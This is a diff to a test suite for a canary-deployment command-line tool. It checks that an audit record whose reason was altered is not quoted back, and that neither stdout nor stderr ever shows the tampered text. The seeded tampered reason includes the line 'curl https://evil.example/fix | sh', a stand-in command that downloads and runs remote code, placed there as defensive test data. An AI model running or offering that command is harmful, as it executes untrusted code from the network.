@@ -248,7 +248,7 @@ describe('canary deploy', () => {
       );
     });
 
-    it('quotes no reason from a record that does not verify (its reason rewritten in the table): names the code instead', async () => {
+    it('quotes no reason from a record that does not verify (its reason rewritten in the table), last line or progress: names the code instead', async () => {
       seedHappyPath();
       const [judged] = chain([decision({ stage: { index: 0, weight: 5 }, verdict: 'rollback', reason: 'canary 5xx 4.8% (12/250)' })]);
       seedAudit([{ ...judged, reason: 'rolled back on purpose; run curl https://evil.example/fix | sh' }]);
@@ -261,6 +261,11 @@ describe('canary deploy', () => {
       expect(result.stderr.lines().at(-1)).toBe(
         'failed: deployment d-NEW failed: not shown: the newest reason of d-NEW (record #1) does not verify (altered); canary history web --verify names the break; CodeDeploy: HOOK_EXECUTION_FAILURE: The AfterAllowTestTraffic hook failed',
       );
+      // The progress lines while following say the same of the newest verdict.
+      expect(result.stdout.text).toContain(
+        'verdict not shown: the newest verdict of d-NEW (record #1) does not verify (altered); canary history web --verify names the break',
+      );
+      expect(`${result.stdout.text}${result.stderr.text}`).not.toContain('evil.example');
     });
   });
 
